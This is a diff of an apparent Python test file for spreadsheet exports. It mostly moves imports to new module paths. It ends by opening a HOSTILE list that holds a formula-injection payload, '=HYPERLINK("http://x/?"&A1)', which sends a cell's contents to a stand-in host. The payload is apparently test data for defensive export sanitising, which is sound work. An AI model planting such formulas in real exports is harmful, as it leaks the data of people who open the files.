@@ -13,6 +13,8 @@ from openpyxl import load_workbook
 from sqlalchemy import event, select
 
 from tests.conftest import hidden_fields
+from tracker.applications.ratings import add_rating
+from tracker.documents.storage import new_staging_path, store_staged
 from tracker.enums import Status
 from tracker.exports import (
     EXPORT_COLUMNS,
@@ -22,10 +24,8 @@ from tracker.exports import (
     write_xlsx,
 )
 from tracker.extensions import db
-from tracker.inbox import InboxFilter
+from tracker.inbox.query import InboxFilter
 from tracker.models import AuditEvent, Document, Tag
-from tracker.ratings import add_rating
-from tracker.storage import new_staging_path, store_staged
 
 HOSTILE = [
     '=HYPERLINK("http://x/?"&A1)',
